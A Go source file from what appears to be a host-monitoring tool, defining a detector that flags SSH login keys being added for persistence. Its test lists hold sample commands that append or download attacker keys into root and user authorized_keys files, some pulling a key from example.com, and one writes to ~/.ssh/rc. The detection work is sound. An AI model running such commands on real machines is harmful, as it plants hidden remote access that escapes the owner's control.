package detect

import (
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
	"github.com/code-on-incus/coi/pkg/coi"
)

var persistKeys = Detector{
	ID: "persist.keys", Level: coi.High, Wants: files,
	Title: "login key added", Why: "who has the other half of the key can come back at any time",
	Detect: firstOf(onCommands(importKeys), writing(paths.AuthKeys, always("login key written"))),
	Fire: append(lines(coi.High, "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys", "cat k.pub | sudo tee -a /root/.ssh/authorized_keys", "cp k.pub /home/bob/.ssh/authorized_keys", "K=$(cat ~/.ssh/authorized_keys); echo \"$K\" > ~/.ssh/authorized_keys", "curl https://example.com/k >> ~/.ssh/authorized_keys", "python3 -c \"open('/root/.ssh/authorized_keys','a').write('x')\"", "echo id > ~/.ssh/rc", "wget -O ~/.ssh/authorized_keys https://example.com/k", "ssh-import-id gh:x", "sed -i '1i ssh-rsa A' ~/.ssh/authorized_keys", "cd ~/.ssh && echo x >> authorized_keys"),
		events(event.Event{Type: event.Write, PID: 3, Exe: "/usr/bin/tee", Path: "/root/.ssh/authorized_keys"})...),
	Quiet: lines("", "ssh-copy-id host", "cat ~/.ssh/authorized_keys", "chmod 600 ~/.ssh/authorized_keys", "ssh host 'cat ~/.ssh/authorized_keys'", "touch ~/.ssh/authorized_keys"),
}
